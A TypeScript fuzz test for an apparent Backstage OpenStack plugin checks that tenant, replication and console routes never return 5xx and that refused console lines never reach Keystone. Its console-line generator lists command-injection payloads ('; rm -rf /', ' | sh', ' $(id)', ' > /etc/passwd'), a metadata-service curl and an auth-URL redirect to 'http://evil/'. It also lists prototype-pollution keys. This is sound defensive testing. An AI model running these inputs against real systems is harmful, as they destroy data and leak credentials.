import { randomUUID } from 'node:crypto';
import { Server } from 'node:http';
import {
  mockCredentials,
  mockServices,
  TestDatabases,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { parseConsoleLine } from '@fedstack/plugin-openstack-node';
import fc from 'fast-check';
import request from 'supertest';
import {
  anyBody,
  dotSegmentSites,
  expectNo5xx as expectNo5xxAt,
  expectRefusedBeforeCatalog,
  hostileText,
  jsonBody,
  queryStringOf,
  recordingCatalog,
  segment,
  SentBody,
  startRefusingKeystone,
} from '../__testUtils__/hostileInput';
import { siteEntity } from '../__testUtils__/sandbox';
import { startOpenStackBackend } from '../__testUtils__/backend';

// Property: whatever a client sends to the tenant, replication and console API, the answer is
// 2xx or 4xx, never 5xx. Two sites, neither the sandbox: site-b (tenants) has its Keystone on a
// closed port, so the replications the fuzz triggers fail at once without leaving the machine;
// site-a (console) has a stand-in Keystone that counts what reaches it, so a refused console
// line is seen to reach nothing.
jest.setTimeout(300_000);
const RUNS = 1000;
const databases = TestDatabases.create({ ids: ['SQLITE_3'] });
let catalog: ReturnType<typeof recordingCatalog>;

const workspace = 'group:default/team-a';
let keystoneHits: string[];
let keystone: Server;
let server: Server;
const tenantIds: string[] = [];
/** Statuses answered, by method and first path segment: the fuzz must reach past validation. */
const seen: Record<string, number[]> = {};

beforeAll(async () => {
  let keystoneUrl: string;
  ({
    server: keystone,
    url: keystoneUrl,
    hits: keystoneHits,
  } = await startRefusingKeystone());
  const knex = await databases.init('SQLITE_3');
  ({ server } = await startOpenStackBackend({
    knex,
    catalog: (catalog = recordingCatalog([
      siteEntity({
        name: 'site-a',
        keystoneUrl,
        profiles: 'egi-fedcloud',
        credentials: 'reader-only',
      }),
      siteEntity({
        name: 'site-b',
        keystoneUrl: 'http://127.0.0.1:9/v3',
        profiles: 'tenant-platform',
        credentials: 'closed',
      }),
    ])).factory,
    features: [
      mockServices.permissions.factory({ result: AuthorizeResult.ALLOW }),
    ],
    ownership: user => [user, workspace],
    openstack: {
      credentialSets: {
        'reader-only': {
          keystoneUrls: [keystoneUrl],
          reader: { type: 'password', username: 'u', password: 'p4ss' },
        },
        closed: {
          keystoneUrls: ['http://127.0.0.1:9/v3'],
          reader: { type: 'password', username: 'u', password: 'p4ss' },
          replicator: {
            type: 'password',
            username: 'r',
            password: 'r3pl',
          },
        },
      },
      network: { allow: ['127.0.0.0/8'] },
      // A thousand lines a minute from one user: past the console's own limits.
      console: {
        rateLimit: { lines: 100_000 },
        concurrentLines: 100,
      },
      replication: {
        landingZones: [
          {
            id: 'quick',
            title: 'Quick',
            maxQuotas: { compute: { cores: 32 } },
            autoApproveUpTo: { compute: { cores: 8 } },
          },
          { id: 'manual', title: 'Manual', roles: { admin: 'member' } },
        ],
      },
    },
    logLevel: 'error',
  }));
  // Tenants in several states, so that generated ids reach real rows and state changes.
  for (const [landingZone, project] of [
    ['quick', 'alpha'],
    ['manual', 'beta'],
    ['manual', 'gamma'],
  ]) {
    const created = await request(server)
      .post('/api/openstack/tenants')
      .send({
        workspace,
        site: 'resource:default/site-b',
        project,
        landingZone,
        members: [{ euid: 'abc@egi.eu', role: 'admin' }],
      });
    if (created.status !== 201) throw new Error(`tenant: ${created.text}`);
    tenantIds.push(created.body.id);
  }
  // By another user: nobody approves their own request.
  await request(server)
    .post(`/api/openstack/tenants/${tenantIds[2]}/approval`)
    .set('Authorization', mockCredentials.user.header('user:default/approver'))
    .send({ decision: 'approve' })
    .expect(200);
});

afterAll(async () => {
  await new Promise(resolve => keystone.close(resolve));
});

const tenantId = () => segment(...tenantIds, randomUUID());

const queryString = queryStringOf(
  [
    'workspace',
    'site',
    'status',
    'limit',
    'workspace[]',
    'site[a]',
    '__proto__',
    '__proto__[x]',
    'constructor[prototype][x]',
  ],
  [
    workspace,
    'resource:default/site-b',
    'requested',
    'requires-approval',
    'deleted',
    '1',
    '500',
    '501',
    '0',
  ],
);

const json = jsonBody;
// The tenant router reads JSON bodies up to 256 kB.
const anyTenantBody = anyBody(256 * 1024);

const maybe = <T>(valid: T[], hostile: fc.Arbitrary<unknown> = hostileText) =>
  fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...valid) },
    { weight: 1, arbitrary: hostile },
    { weight: 1, arbitrary: fc.jsonValue() },
  );
const member = fc.record(
  {
    euid: maybe(['abc@egi.eu', 'x'.repeat(256), 'a b']),
    role: maybe(['admin', 'user', 'reader', 'Admin', 'constructor']),
    extra: fc.jsonValue(),
  },
  { requiredKeys: ['euid', 'role'] },
);
// Object keys must be strings: a JSON value as a key (an object without a prototype) makes
// fast-check itself throw "Cannot convert object to primitive value".
const maybeKey = (valid: string[]) =>
  fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...valid) },
    { weight: 1, arbitrary: hostileText },
  );
const quotas = fc.dictionary(
  maybeKey(['compute', 'network', 'blockStorage', '__proto__']),
  fc.dictionary(
    maybeKey(['cores', 'ram', 'router', '__proto__']),
    maybe([0, -1, -2, 4, 9, 33, 1e9, 1e10, 1.5, Number.MAX_SAFE_INTEGER]),
  ),
);
/** Tenant requests close enough to valid to pass the schema at times. */
const tenantRequest = fc
  .record(
    {
      workspace: maybe([
        workspace,
        'group:default/other',
        'GROUP:Default/Team-A',
      ]),
      site: maybe([
        'resource:default/site-b',
        'resource:default/site-a',
        'resource:default/nowhere',
      ]),
      project: maybe(['p1', 'alpha', 'a'.repeat(40), '-x']),
      landingZone: maybe(['quick', 'manual', 'nowhere']),
      description: maybe(['d', 'x'.repeat(300)]),
      members: fc.oneof(fc.array(member, { maxLength: 5 }), fc.jsonValue()),
      quotas: fc.oneof(quotas, fc.jsonValue()),
    },
    { requiredKeys: [] },
  )
  .map(json);
const membersUpdate = fc
  .record({
    members: fc.oneof(fc.array(member, { maxLength: 5 }), fc.jsonValue()),
  })
  .map(json);
const approval = fc
  .record(
    {
      decision: maybe(['approve', 'reject', 'APPROVE']),
      comment: maybe(['ok', 'x'.repeat(1001)]),
    },
    { requiredKeys: [] },
  )
  .map(json);
const runBody = fc
  .oneof(
    fc.record({ dryRun: maybe([true, false, 'true']) }, { requiredKeys: [] }),
    fc.constant(undefined),
  )
  .map(json);

/** The answer must be 2xx–4xx; the statuses seen per route show the fuzz got past validation. */
async function expectNo5xx(
  method: 'get' | 'post' | 'put' | 'delete',
  path: string,
  sent?: SentBody,
) {
  const response = await expectNo5xxAt(server, method, path, sent);
  const route = `${method.toUpperCase()} ${path.split('?')[0].split('/')[1]}`;
  seen[route] = [...new Set([...(seen[route] ?? []), response.status])].sort();
  return response;
}

const site = fc.tuple(
  segment('default'),
  segment('site-b', 'site-a', 'nowhere'),
);
const body = (structured: fc.Arbitrary<{ type: string; text: string }>) =>
  fc.oneof(
    { weight: 3, arbitrary: structured },
    { weight: 1, arbitrary: anyTenantBody },
  );

const routes: Array<[string, () => fc.IAsyncProperty<any>]> = [
  [
    'POST /tenants',
    () =>
      fc.asyncProperty(body(tenantRequest), async sent => {
        await expectNo5xx('post', '/tenants', sent);
      }),
  ],
  [
    'GET /tenants?query',
    () =>
      fc.asyncProperty(queryString, async query => {
        await expectNo5xx('get', `/tenants${query}`);
      }),
  ],
  [
    'GET /tenants/:id',
    () =>
      fc.asyncProperty(tenantId(), queryString, async (id, query) => {
        await expectNo5xx('get', `/tenants/${id}${query}`);
      }),
  ],
  [
    'PUT /tenants/:id/members',
    () =>
      fc.asyncProperty(tenantId(), body(membersUpdate), async (id, sent) => {
        await expectNo5xx('put', `/tenants/${id}/members`, sent);
      }),
  ],
  [
    'POST /tenants/:id/approval',
    () =>
      fc.asyncProperty(tenantId(), body(approval), async (id, sent) => {
        await expectNo5xx('post', `/tenants/${id}/approval`, sent);
      }),
  ],
  [
    'DELETE /tenants/:id',
    () =>
      fc.asyncProperty(tenantId(), async id => {
        await expectNo5xx('delete', `/tenants/${id}`);
      }),
  ],
  [
    'POST /sites/:namespace/:name/replications',
    () =>
      fc.asyncProperty(site, body(runBody), async ([namespace, name], sent) => {
        await expectNo5xx(
          'post',
          `/sites/${namespace}/${name}/replications`,
          sent,
        );
      }),
  ],
  [
    'GET /sites/:namespace/:name/replications',
    () =>
      fc.asyncProperty(site, queryString, async ([namespace, name], query) => {
        await expectNo5xx(
          'get',
          `/sites/${namespace}/${name}/replications${query}`,
        );
      }),
  ],
  [
    'GET /replications/:id',
    () =>
      fc.asyncProperty(segment(randomUUID()), async id => {
        await expectNo5xx('get', `/replications/${id}`);
      }),
  ],
  [
    'GET /landing-zones',
    () =>
      fc.asyncProperty(queryString, async query => {
        await expectNo5xx('get', `/landing-zones${query}`);
      }),
  ],
];

describe('the tenant and replication API never answers 5xx', () => {
  it.each(routes)('%s', async (_route, property) => {
    await expect(
      fc.assert(property(), { numRuns: RUNS }),
    ).resolves.toBeUndefined();
  });

  it('reached no Keystone but the closed port (the stand-in saw nothing)', () => {
    expect(keystoneHits).toEqual([]);
  });

  it('got past validation: requests created, changed and replicated', () => {
    expect(seen['POST tenants']).toEqual(
      expect.arrayContaining([200, 400, 409]),
    );
    expect(seen['PUT tenants']).toEqual(expect.arrayContaining([200, 400]));
    expect(seen['DELETE tenants']).toEqual(expect.arrayContaining([200, 409]));
    expect(seen['POST sites']).toEqual(expect.arrayContaining([200, 400, 404]));
    expect(seen['GET tenants']).toEqual(
      expect.arrayContaining([200, 400, 404]),
    );
  });
});

/** Console lines: shell tricks around real commands, writes, huge lines, control characters. */
const consoleLine = fc.oneof(
  hostileText,
  fc
    .tuple(
      fc.constantFrom(
        'domain list',
        'project list',
        'server list',
        'openstack token issue',
        'user create x',
        'project delete admin',
        'rm -rf /',
        'curl http://169.254.169.254/',
      ),
      fc.constantFrom(
        '; rm -rf /',
        ' && id',
        ' | sh',
        ' $(id)',
        ' `id`',
        ' > /etc/passwd',
        '\nproject delete admin',
        '\r\nuser create x',
        '\u0000',
        ' --os-auth-url http://evil/',
        ' --password x',
        ` ${'a'.repeat(100 * 1024)}`,
      ),
    )
    .map(([a, b]) => `${a}${b}`),
  fc.constant('x'.repeat(100 * 1024)),
);
const consoleBody = fc.oneof(
  { weight: 3, arbitrary: consoleLine.map(line => json({ line })) },
  {
    weight: 1,
    arbitrary: fc
      .record(
        { line: fc.jsonValue(), more: fc.jsonValue() },
        { requiredKeys: [] },
      )
      .map(json),
  },
  { weight: 1, arbitrary: anyTenantBody },
);

describe('the console route never answers 5xx and runs nothing it refuses', () => {
  it('POST /sites/:namespace/:name/console', async () => {
    await expect(
      fc.assert(
        fc.asyncProperty(
          fc.tuple(segment('default'), segment('site-a', 'site-b')),
          consoleBody,
          async ([namespace, name], sent) => {
            const before = keystoneHits.length;
            const response = await expectNo5xx(
              'post',
              `/sites/${namespace}/${name}/console`,
              sent,
            );
            let line: unknown;
            try {
              line = JSON.parse(sent.text).line;
            } catch {
              line = undefined;
            }
            // A line the console refuses must not reach Keystone.
            const refused =
              typeof line !== 'string' || !parseConsoleLine(line).ok;
            if (refused && keystoneHits.length !== before)
              throw new Error(`a refused line reached Keystone: ${sent.text}`);
            if (
              refused &&
              response.status === 200 &&
              !response.text.includes('"status":"refused"')
            )
              throw new Error(
                `a refused line was not refused: ${response.text}`,
              );
          },
        ),
        { numRuns: RUNS },
      ),
    ).resolves.toBeUndefined();
  });

  it('does reach the stand-in with a command it accepts (the counter counts)', async () => {
    const before = keystoneHits.length;
    const response = await request(server)
      .post('/api/openstack/sites/default/site-a/console')
      .send({ line: 'domain list' });
    expect(response.status).toBe(200);
    expect(keystoneHits.length).toBeGreaterThan(before);
  });
});

describe('a dot segment in a site or workspace ref is refused before any catalog call', () => {
  it.each([
    ['get', (at: string) => `${at}/replications`],
    ['post', (at: string) => `${at}/replications`],
    ['post', (at: string) => `${at}/console`],
  ] as const)('%s /sites/:namespace/:name…', async (method, pathOf) => {
    for (const [namespace, name, part] of dotSegmentSites('default', 'site-b'))
      await expectRefusedBeforeCatalog(
        server,
        catalog,
        method,
        pathOf(`/sites/${namespace}/${name}`),
        part,
        method === 'post' ? json({ line: 'domain list' }) : undefined,
      );
    expect(catalog.dotted()).toEqual([]);
  });

  it('POST /tenants with a dotted site or workspace ref', async () => {
    for (const [namespace, name] of dotSegmentSites('default', 'x')) {
      const valid = {
        workspace,
        site: 'resource:default/site-b',
        project: 'dots',
        landingZone: 'manual',
      };
      // Path segments arrive decoded; a body's refs are as sent.
      const ref = `${decodeURIComponent(namespace)}/${decodeURIComponent(
        name,
      )}`;
      await expectRefusedBeforeCatalog(
        server,
        catalog,
        'post',
        '/tenants',
        'site:',
        json({ ...valid, site: `resource:${ref}` }),
      );
      await expectRefusedBeforeCatalog(
        server,
        catalog,
        'post',
        '/tenants',
        'workspace:',
        json({ ...valid, workspace: `group:${ref}` }),
      );
    }
    expect(catalog.dotted()).toEqual([]);
  });

  it('and none reached the catalog during the fuzz either', () => {
    expect(catalog.dotted()).toEqual([]);
  });
});
